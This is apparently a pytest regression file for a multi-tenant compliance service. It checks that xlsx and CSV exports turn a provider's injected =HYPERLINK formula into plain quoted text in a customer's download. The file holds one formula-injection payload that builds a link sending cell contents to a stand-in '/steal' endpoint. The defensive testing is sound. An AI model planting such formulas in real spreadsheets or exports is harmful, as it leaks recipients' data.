"""Spreadsheet exports never turn another tenant's text into a formula (issue 18, F10).

Reproduction: a provider's ``customer_responsibility`` starting with ``=HYPERLINK(...)`` became a
live formula in its customer's xlsx export and started with ``=`` in the CSV.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from typing import Any

import pytest
from conftest import app_over_copy
from openpyxl import load_workbook

from graphsvc.config import PROJECT_ROOT, Settings

EXAMPLES = PROJECT_ROOT / "mappings" / "examples"
EVIL = '=HYPERLINK("http://127.0.0.1:1/steal?d="&A1,"Click for the retention guide")'
ORIGINAL = """    customer_responsibility: >-
      Configure retention of Copilot and model-call interaction logs and audit logs, and keep
      the logs of any high-risk use for at least six months (longer where other law requires);
      default retention periods may be shorter than that.
"""
PARAMS = {"target": "euaia", "as_of": "2026-11-23", "law_version": "adopted"}


@pytest.fixture(scope="module")
def exported(built_settings: Settings, tmp_path_factory: pytest.TempPathFactory) -> Iterator[dict[str, Any]]:
    """Microsoft (the provider) publishes a shared control whose residual text is a formula; contoso
    (the customer, whose screening assistant is built on Microsoft Foundry) downloads its coverage."""
    callers = (("ms_writer", "writer", "microsoft"), ("contoso_reader", "reader", "contoso"))
    with app_over_copy(built_settings, tmp_path_factory.mktemp("exports"), callers) as parts:
        client, keys = parts["client"], parts["keys"]
        doc = (EXAMPLES / "microsoft.yaml").read_text(encoding="utf-8")
        assert ORIGINAL in doc
        evil = doc.replace(ORIGINAL, "    customer_responsibility: '" + EVIL.replace("'", "''") + "'\n")
        headers = {"Authorization": f"Bearer {keys['ms_writer']}", "Content-Type": "text/yaml"}
        r = client.put("/orgs/microsoft", content=evil, headers=headers)
        assert r.status_code == 200, r.text
        contoso = {"Authorization": f"Bearer {keys['contoso_reader']}"}
        out = {}
        for fmt in ("xlsx", "csv"):
            r = client.get(
                "/export/coverage/system/contoso/hr-screening", params={**PARAMS, "format": fmt}, headers=contoso
            )
            assert r.status_code == 200, r.text
            out[fmt] = r.content
        yield out


def test_the_providers_formula_is_text_in_the_customers_workbook(exported: dict[str, Any]) -> None:
    wb = load_workbook(io.BytesIO(exported["xlsx"]))
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
    evil = [c for c in cells if "HYPERLINK" in c.value]
    assert evil, "the provider's residual text reaches the customer's workbook"
    for c in evil:
        if c.value.startswith("="):
            assert c.data_type == "s" and c.quotePrefix, (c.coordinate, c.data_type)
    assert not [c for c in cells if c.data_type == "f"]  # no formula anywhere


def test_the_providers_formula_is_quoted_in_the_customers_csv(exported: dict[str, Any]) -> None:
    rows = list(csv.DictReader(io.StringIO(exported["csv"].decode("utf-8"))))
    residuals = [r["residual"] for r in rows if "HYPERLINK" in r["residual"]]
    assert residuals
    assert all(not r.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for r in row.values())
    assert any(r.startswith("'=HYPERLINK") for r in residuals)


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_formula_start_is_written_as_text(start: str) -> None:
    from graphsvc.exports.results import to_csv, to_xlsx

    value = start + "1+2"
    wb = load_workbook(io.BytesIO(to_xlsx({"S": [{"a": value, "n": -5}]})))
    cell, number = wb["S"]["A2"], wb["S"]["B2"]
    # (XML has no bare CR: the workbook reads a leading CR back as LF)
    assert cell.value in (value, value.replace("\r", "\n")) and cell.data_type == "s" and cell.quotePrefix
    assert number.value in ("-5", -5)  # a number is not text that looks like a formula
    row = next(csv.reader(io.StringIO(to_csv([{"a": value, "n": -5}]).splitlines()[1])))
    assert row == ["'" + value, "-5"] or (start == "\r" and row[0].startswith("'"))
